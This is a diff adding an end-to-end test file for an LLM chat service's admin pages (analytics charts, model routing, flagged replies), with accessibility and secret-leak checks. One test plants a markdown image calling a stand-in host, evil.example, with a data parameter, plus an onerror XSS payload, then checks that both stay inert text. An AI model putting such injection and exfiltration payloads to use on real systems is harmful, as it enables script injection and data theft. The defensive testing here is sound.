@@ -1,0 +1,159 @@
+import { writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { startModel } from '@engineer-chat/proof'
+import type { Page } from 'playwright-core'
+import t, { type Test } from 'tap'
+import { axe } from '../testing/axe.ts'
+import { signIn, type Visitor, visit } from '../testing/browser.ts'
+import { seedStatistics } from '../testing/statistics.ts'
+import { openWarRoom, PASSWORD } from '../testing/war-room.ts'
+
+const model = await startModel()
+const models = [
+  {
+    ...{ id: 'deepseek-v3', provider: 'openai-compatible', endpoint: 'http://llm.inside.example:9/v1' },
+    ...{ api_key_env: 'HOUSE_KEY', context_window: 65_536, prices: { prompt: 0.27, completion: 1.1 } },
+    ...{ parameters: { max_tokens: 4_096 }, fallbacks: ['house', 'offline'] },
+    choose_for: [{ severity: ['critical', 'high'], words: ['ransomware', '勒索'] }],
+  },
+  {
+    ...{ id: 'house', provider: 'openai-compatible', endpoint: model.url, model: 'qwen3:8b' },
+    ...{ parameters: { max_tokens: 600 }, fallbacks: ['offline'] },
+  },
+]
+const LLM_MODELS_FILE = join(t.testdir({}), 'models.json')
+await writeFile(LLM_MODELS_FILE, JSON.stringify({ default: 'house', models }))
+const room = await openWarRoom({ env: { LLM_BASE_URL: '', LLM_MODELS_FILE, HOUSE_KEY: 'secret-of-the-house' } })
+t.setTimeout(240_000)
+t.teardown(async () => {
+  await room.stop()
+  await model.close()
+})
+await seedStatistics(room.product.mysql.url)
+
+async function admin(name: string, page: string): Promise<Visitor> {
+  await room.user(name, 'admin')
+  const visitor = await visit(room.browser, room.front.url)
+  await signIn(visitor.page, name, PASSWORD)
+  await visitor.page.locator('a[href="#/users"]').click()
+  await visitor.page.locator(`.admin nav a[href="#/${page}"]`).click()
+  return visitor
+}
+
+/** Both themes and languages, wide and narrow. */
+async function nobodyIsKeptOut(t: Test, page: Page): Promise<void> {
+  const violations = async (what: string) => t.same(await axe(page), [], what)
+  await violations('English, dark')
+  await page.locator('[aria-label="Light theme"]').click()
+  await violations('English, light')
+  await page.locator('.account [aria-label="中文"]').click()
+  await violations('Chinese, light')
+  await page.locator('[aria-label="深色主题"]').click()
+  await violations('Chinese, dark')
+  await page.setViewportSize({ width: 360, height: 740 })
+  await violations('360 px')
+  t.ok(await page.evaluate(() => document.documentElement.scrollWidth <= 360), 'nothing is wider than the screen')
+}
+
+t.test('[ROOM22] analytics are pictures that a mouse, keys and a screen reader can read', async (t) => {
+  const { page, context, errors, outside } = await admin('root-a', 'analytics')
+  const picture = (title: string) => page.locator('.picture', { hasText: title })
+  await picture('Volume').locator('rect.fill').first().waitFor()
+  t.equal(await page.locator('.picture').count(), 7)
+  t.match(await page.locator('.tiles').innerText(), /Satisfaction[\s\S]*\d+%[\s\S]*share of thumbs up/)
+  t.match(await picture('Completion and').innerText(), /neither|share ended as an answer/)
+
+  const days = picture('Volume').locator('input[type=range]')
+  await days.focus()
+  const told = async () => (await days.getAttribute('aria-valuetext')) ?? ''
+  const last = await told()
+  t.match(last, /^\d+ \w+; Answered: \d+; Cancelled: \d+; Failed: \d+; Unfinished: /)
+  await page.keyboard.press('ArrowLeft')
+  t.not(await told(), last)
+  t.equal((await picture('Volume').locator('.tip').innerText()).split('\n')[0], (await told()).split(';')[0])
+  await picture('Answer time').locator('.plot').hover()
+  t.match(await picture('Answer time').locator('.tip').innerText(), /Median \(p50\)\s*[\d.]+ s/)
+
+  await picture('Volume').locator('summary').click()
+  t.equal(await picture('Volume').locator('tbody tr').count(), 30)
+  await picture('Volume').locator('summary').click()
+  await page.locator('.choices button', { hasText: '7 days' }).click()
+  await page.waitForFunction(() => document.querySelector<HTMLInputElement>('.days')?.max === '6')
+  const all = await page.locator('.tiles .value').first().innerText()
+  await page.locator('.choices select').selectOption({ label: 'qwen3:8b' })
+  t.not(await page.locator('.tiles .value').first().innerText(), all)
+  t.equal(await page.locator('.by-model').count(), 0, 'one model is compared with nothing')
+  await page.locator('.choices select').selectOption({ label: 'All models' })
+  t.equal(await page.locator('.by-model tbody tr').count(), 2)
+  await nobodyIsKeptOut(t, page)
+  t.same([errors, outside], [[], []])
+  await context.close()
+})
+
+t.test('[ROOM23] models: who answers when, who stands in, and what the counters say; no host and no key', async (t) => {
+  const { page, context, errors } = await admin('root-m', 'models')
+  const card = page.locator('.model-card', { hasText: 'deepseek-v3' })
+  await card.locator('.plot rect.fill').first().waitFor()
+  t.match(await page.locator('.routing li').allInnerTexts(), [
+    'severity critical or high and mentions ransomware or 勒索 → deepseek-v3',
+    'Everything else → house',
+  ])
+  t.match(await card.innerText(), /If it fails: house → offline[\s\S]*65,536 tokens[\s\S]*0.27 in, 1.1 out/)
+  t.match(await card.locator('.used').innerText(), /Calls\s*\d[\s\S]*failed\s*\d+ \(\d+%\)[\s\S]*Cost\s*\d+\.\d\d/)
+  t.notMatch(await page.content(), /inside\.example|HOUSE_KEY|secret-of/)
+  await nobodyIsKeptOut(t, page)
+  t.same(errors, [])
+  await context.close()
+})
+
+t.test('[ROOM24] flagged replies are found, read as text and judged; of a private one no word is shown', async (t) => {
+  const hostile = '![p](https://evil.example/p.png?d=1) <img src=x onerror="window.pwned = 1">'
+  for (const [who, visibility] of [
+    [room.alice, 'room'],
+    [room.bob, 'private'],
+  ] as const) {
+    const { body } = await who.ask(room.at(0), room.event_id, `${visibility}-words ${hostile}`, { visibility })
+    await who.answerTo(room.at(0), body)
+  }
+  const { page, context, errors, outside } = await admin('root-f', 'flagged')
+  const item = (text: string) => page.locator('.flagged-item', { hasText: text })
+  await item('Private').waitFor()
+  t.match(await item('Private').innerText(), /Remote image 1 ×[\s\S]*none of the words/)
+  t.equal(await item('Private').locator('code, details, a').count(), 0)
+  const shared = item('Shared with the room')
+  await shared.locator('summary').click()
+  t.match(await shared.locator('.source').innerText(), /room-words/)
+  t.notMatch(await page.locator('.flagged').innerText(), 'private-words')
+  t.equal(await shared.locator('.source *').count(), 0, 'text')
+  t.equal(await page.evaluate(() => 'pwned' in window), false)
+  await nobodyIsKeptOut(t, page)
+  await page.setViewportSize({ width: 1280, height: 800 })
+  await page.locator('.account [aria-label="English"]').click()
+
+  await shared.locator('input').fill('their logo')
+  await shared.locator('button', { hasText: 'Harmless' }).click()
+  await shared.locator('.judged.harmless').waitFor()
+  await page.locator('.choices select').first().selectOption({ label: 'Harmful' })
+  await page.locator('.flagged', { hasText: 'Nothing fits these filters.' }).waitFor()
+  await page.locator('.choices select').first().selectOption({ label: 'Harmless' })
+  await shared.waitFor()
+  t.equal(await shared.locator('input').inputValue(), 'their logo')
+  t.equal(await page.locator('.flagged-item').count(), 1)
+  await page.locator('.choices select').nth(1).selectOption({ label: 'Secret in a link' })
+  await shared.waitFor({ state: 'detached' })
+  t.same([errors, outside], [[], []])
+  await context.close()
+})
+
+t.test('[ROOM22] what only admins read is not even fetched by others, and shown to nobody else', async (t) => {
+  const { page, context } = await room.engineer('nosy')
+  const fetched: string[] = []
+  page.on('request', (request) => fetched.push(request.url()))
+  await page.goto(`${room.front.url}/#/analytics`)
+  await page.locator('.admin', { hasText: 'Only administrators see this.' }).waitFor()
+  t.same(
+    fetched.filter((url) => url.includes('/api/admin')),
+    [],
+  )
+  await context.close()
+})
